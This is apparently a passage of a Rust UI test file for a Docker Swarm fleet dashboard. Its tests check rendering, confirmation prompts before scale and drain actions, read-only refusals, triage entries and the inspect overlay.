                "us-east-02",
                "manager",
                "active",
                &[("dc", "us-east"), ("tier", "edge")],
            ),
        ],
        services: vec![
            SwarmService {
                id: "s1".into(),
                name: "api".into(),
                image: "registry.local/shop/api:2".into(),
                mode: ServiceMode::Replicated(3),
                ports: vec!["8080:80/tcp".into()],
                update: Some(UpdateStatus {
                    state: "updating".into(),
                    message: "update in progress".into(),
                    started_at: Some(now() - TimeDelta::minutes(3)),
                }),
            },
            SwarmService {
                id: "s2".into(),
                name: "web".into(),
                image: "registry.local/shop/web:2.4.1".into(),
                mode: ServiceMode::Replicated(1),
                ports: vec![],
                update: Some(UpdateStatus {
                    state: "rollback_completed".into(),
                    message: "rollback completed".into(),
                    started_at: Some(now() - TimeDelta::minutes(20)),
                }),
            },
            SwarmService {
                id: "s3".into(),
                name: "agent".into(),
                image: "registry.local/ops/agent:1".into(),
                mode: ServiceMode::Global,
                ports: vec![],
                update: None,
            },
        ],
        tasks: vec![
            task("t1", "s1", Some(1), "n1", "running", 2),
            task("t2", "s1", Some(2), "n1", "running", 60),
            task("t3", "s1", Some(3), "n1", "starting", 1),
            task("t4", "s2", Some(1), "n1", "running", 15),
            task("t5", "s2", Some(1), "n2", "failed", 17),
            task("t6", "s2", Some(1), "n2", "failed", 18),
            task("t7", "s2", Some(1), "n2", "failed", 19),
            task("t8", "s3", None, "n1", "running", 300),
        ],
    };
    app.apply(Msg {
        endpoint: 1,
        at: now(),
        kind: MsgKind::Swarm(Box::new(state)),
    });
    app
}

#[test]
fn swarm_nodes_view_at_80x24_and_200x50() {
    let mut app = swarm_app();
    key(&mut app, KeyCode::Char('8'));
    snap!("swarm_nodes_80x24", render(&mut app, 80, 24));
    snap!("swarm_nodes_200x50", render(&mut app, 200, 50));
    // A drained node stands out from an active one (once the selection is off it).
    key(&mut app, KeyCode::Char('j'));
    let buf = render(&mut app, 200, 50);
    let (_, y) = find_cell(&buf, "us-east-01 ");
    let (x, _) = find_cell(&buf, "drain");
    assert_eq!(buf[(x, y)].fg, Theme::dark().container_paused.fg.unwrap());
}

#[test]
fn swarm_services_view_and_a_services_tasks_at_80x24_and_200x50() {
    let mut app = swarm_app();
    key(&mut app, KeyCode::Char('9'));
    snap!("swarm_services_80x24", render(&mut app, 80, 24));
    let buf = render(&mut app, 200, 50);
    snap!("swarm_services_200x50", buf);
    let (x, y) = find_cell(&buf, "rolled back");
    assert_eq!(buf[(x, y)].fg, Theme::dark().event_warning.fg.unwrap());
    // Down to web, Enter: its tasks, newest first.
    key(&mut app, KeyCode::Char('j'));
    key(&mut app, KeyCode::Enter);
    snap!("swarm_tasks_80x24", render(&mut app, 80, 24));
    snap!("swarm_tasks_200x50", render(&mut app, 200, 50));
    key(&mut app, KeyCode::Esc);
    assert!(app.view.service_tasks.is_none());
}

#[test]
fn swarm_action_keys_show_their_plan_first_and_send_nothing_until_yes() {
    use fleetdeck::app::Command;
    use fleetdeck::model::actions::Action;
    let mut app = swarm_app();
    key(&mut app, KeyCode::Char('9'));
    // s: how many replicas, checked as typed; then the plan.
    key(&mut app, KeyCode::Char('s'));
    key(&mut app, KeyCode::Backspace);
    key(&mut app, KeyCode::Char('x'));
    key(&mut app, KeyCode::Enter);
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(text.contains("a number of replicas"), "{text}");
    key(&mut app, KeyCode::Backspace);
    key(&mut app, KeyCode::Char('5'));
    key(&mut app, KeyCode::Enter);
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(
        text.contains("scale to 5: service us-east-02/api"),
        "{text}"
    );
    assert!(app.commands.is_empty(), "nothing sent before y");
    key(&mut app, KeyCode::Char('y'));
    match app.commands.as_slice() {
        [Command::Swarm { request }] => {
            assert_eq!(request.action, Action::ServiceScale { replicas: 5 });
            assert_eq!((request.endpoint, request.container_id.as_str()), (1, "s1"));
        }
        other => panic!("{other:?}"),
    }
    app.commands.clear();
    // D on the nodes view: drain, planned with what moves.
    key(&mut app, KeyCode::Char('8'));
    key(&mut app, KeyCode::Char('j'));
    key(&mut app, KeyCode::Char('D'));
    let text = buffer_to_text(&render(&mut app, 120, 30));
    assert!(
        text.contains("drain (its tasks move away): node us-east-02/us-east-02"),
        "{text}"
    );
    key(&mut app, KeyCode::Char('n'));
    assert!(app.commands.is_empty());
}

#[test]
fn swarm_action_keys_on_a_read_only_manager_are_refused_with_the_reason() {
    use fleetdeck::app::Command;
    let mut app = swarm_app();
    app.fleet.endpoints[1].spec.read_only = true;
    key(&mut app, KeyCode::Char('8'));
    key(&mut app, KeyCode::Char('D'));
    assert!(app.view.confirm.is_none(), "no plan to say yes to");
    assert_eq!(
        app.view.message.as_deref(),
        Some(
            "node-drain refused: us-east-02 is read-only (--write or read_only = false to allow changes)"
        )
    );
    // Still handed to the gate, which refuses it without a connection and audits it.
    assert!(matches!(app.commands.as_slice(), [Command::Swarm { .. }]));
}

#[test]
fn triage_lists_a_drained_swarm_node_and_a_task_that_keeps_failing_and_enter_opens_their_view() {
    let mut app = swarm_app();
    // web's slot 1 came back after its rollback; without that running task its last three
    // tasks all failed.
    let swarm = app.fleet.endpoints[1].swarm.as_mut().unwrap();
    swarm.tasks.retain(|t| t.id != "t4");
    app.fleet.touch();
    key(&mut app, KeyCode::Char('4'));
    let text = buffer_to_text(&render(&mut app, 200, 50));
    assert!(text.contains("node drained"), "{text}");
    assert!(text.contains("availability drain"), "{text}");
    assert!(text.contains("task failing"), "{text}");
    // Enter on each: the view it lives in.
    let line = |text: &str, what: &str| text.lines().position(|l| l.contains(what)).unwrap();
    let (drained, failing) = (line(&text, "node drained"), line(&text, "task failing"));
    let first = line(&text, "endpoint down").min(drained).min(failing);
    for _ in first..drained {
        key(&mut app, KeyCode::Char('j'));
    }
    key(&mut app, KeyCode::Enter);
    assert_eq!(app.view.view, fleetdeck::model::View::Nodes);
    key(&mut app, KeyCode::Char('4'));
    render(&mut app, 200, 50);
    key(&mut app, KeyCode::Char('g'));
    for _ in first..failing {
        key(&mut app, KeyCode::Char('j'));
    }
    key(&mut app, KeyCode::Enter);
    assert_eq!(app.view.view, fleetdeck::model::View::Services);
}

#[test]
fn a_clusters_total_says_how_old_its_oldest_figure_is_once_it_is_not_fresh() {
    let mut app = stats_app();
    key(&mut app, KeyCode::Char('1'));
    // The newest samples are 2 s old: nothing to say.
    let text = buffer_to_text(&render(&mut app, 200, 50));
    assert!(
        text.contains("prod-us") && text.contains("· cpu "),
        "{text}"
    );
    assert!(!text.contains(" old)"), "{text}");
    // 20 s later with no new sample (off screen, say): the total owns up to its age.
    app.now = now() + TimeDelta::seconds(20);
    let text = buffer_to_text(&render(&mut app, 200, 50));
    assert!(text.contains("(≤22s old)"), "{text}");
}

#[test]
fn a_failing_notification_target_shows_in_the_footer_in_the_error_style() {
    let mut app = app();
    let buf = render(&mut app, 80, 24);
    assert!(!buffer_to_text(&buf).contains("notify"));
    app.delivery_problem = Some("notify oncall: failing (HTTP 500, retrying)".into());
    let buf = render(&mut app, 80, 24);
    let (x, y) = find_cell(&buf, "notify oncall: failing (HTTP 500, retrying)");
    assert_eq!(y, 23, "on the footer row");
    assert_eq!(
        x + " notify oncall: failing (HTTP 500, retrying) ".len() as u16 - 1,
        80,
        "at its right end"
    );
    assert_eq!(buf[(x, y)].style().fg, app.theme.error.fg);
    // Delivery that works again clears it.
    app.delivery_problem = None;
    let buf = render(&mut app, 80, 24);
    assert!(!buffer_to_text(&buf).contains("failing"));
}

/// `i` in a view, the engine's command it gives (endpoint and target), and the overlay's title.
fn inspect_in_view(
    app: &mut App,
    view: char,
) -> (usize, fleetdeck::model::inspect::InspectTarget, String) {
    use fleetdeck::app::Command;
    key(app, KeyCode::Char(view));
    app.commands.clear();
    key(app, KeyCode::Char('i'));
    let Some(Command::OpenInspect {
        endpoint, target, ..
    }) = app.commands.last().cloned()
    else {
        panic!("no inspect asked in view {view}: {:?}", app.commands);
    };
    let text = buffer_to_text(&render(app, 120, 30));
    let title = text
        .lines()
        .find(|l| l.contains(" inspect · "))
        .unwrap_or_else(|| panic!("no overlay:\n{text}"))
        .to_string();
    key(app, KeyCode::Esc);
    assert!(app.view.inspect.is_none());
    (endpoint, target, title)
}

#[test]
fn i_inspects_the_selected_endpoint_pool_network_swarm_node_and_service() {
    use fleetdeck::model::inspect::InspectTarget;
    let mut app = pools_app();
    let (endpoint, target, title) = inspect_in_view(&mut app, '1');
    assert_eq!((endpoint, target), (0, InspectTarget::Endpoint));
    assert!(
        title.contains("inspect · endpoint us-east-01 (info, version) ·"),
        "{title}"
    );
    // The shared pool spans both prod-us hosts: the first one's network, and the title says so.
    let (endpoint, target, title) = inspect_in_view(&mut app, '6');
    assert_eq!(
        (endpoint, target),
        (0, InspectTarget::Network("net-192.168.2.14".into()))
    );
    assert!(
        title.contains("network dockernet on us-east-01 (first of the pool's 2 networks)"),
        "{title}"
    );
    // From the drill-down too.
    key(&mut app, KeyCode::Enter);
    let (_, target, _) = inspect_in_view(&mut app, '6');
    assert_eq!(target, InspectTarget::Network("net-192.168.2.14".into()));

    // Swarm objects are asked of the manager whose reading shows them (us-east-02).
    let mut app = swarm_app();
    let (endpoint, target, title) = inspect_in_view(&mut app, '8');
    let first = fleetdeck::ui::nodes::shown_nodes(&app.fleet.swarms())[0]
        .1
        .clone();
    assert_eq!(
        (endpoint, target),
        (1, InspectTarget::Node(first.id.clone()))
    );
    assert!(
        title.contains(&format!("node {} via us-east-02", first.hostname)),
        "{title}"
    );
    key(&mut app, KeyCode::Char('9'));
    key(&mut app, KeyCode::Char('j'));
    let (endpoint, target, title) = inspect_in_view(&mut app, '9');
    let second = fleetdeck::ui::services::shown_services(&app.fleet.swarms())[1]
        .1
        .clone();
    assert_eq!(
        (endpoint, target),
        (1, InspectTarget::Service(second.id.clone()))
    );
    assert!(
        title.contains(&format!("service {} via us-east-02", second.name)),
        "{title}"
    );
}

#[test]
fn an_endpoint_inspect_opens_as_info_and_version_folded_and_ignores_other_answers() {
    use fleetdeck::model::inspect::{InspectDoc, InspectTarget};
    let mut app = app();
    key(&mut app, KeyCode::Char('1'));
    key(&mut app, KeyCode::Char('i'));
    let request = app.view.inspect.as_ref().expect("overlay open").request;
    let answer = |target: InspectTarget| Msg {
        endpoint: 0,
        at: now(),
        kind: MsgKind::Inspect {
            request,
            target,
            doc: Ok(Box::new(InspectDoc::new(serde_json::json!({
                "Info": {"Name": "host", "Containers": 6, "Swarm": {"LocalNodeState": "inactive"}},
                "Version": {"Version": "20.10.24+dfsg1", "ApiVersion": "1.41"},
            })))),
        },
    };
    // An answer for something else under the same request id is not this overlay's.
    assert!(!app.apply(answer(InspectTarget::Container("c1".into()))));
    assert!(app.view.inspect.as_ref().unwrap().doc.is_none());
    assert!(app.apply(answer(InspectTarget::Endpoint)));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert_in_order(
        &text,
        &[
            "│{",
            "│▸ \"Info\": {…} 7 lines",
            "│▸ \"Version\": {…} 4 lines",
            "│}",
        ],
    );
    // Nothing in it to mask: the title does not speak of env.
    assert!(!text.contains("env masked"), "{text}");
    key(&mut app, KeyCode::Char('+'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(text.contains("\"ApiVersion\": \"1.41\""), "{text}");
}
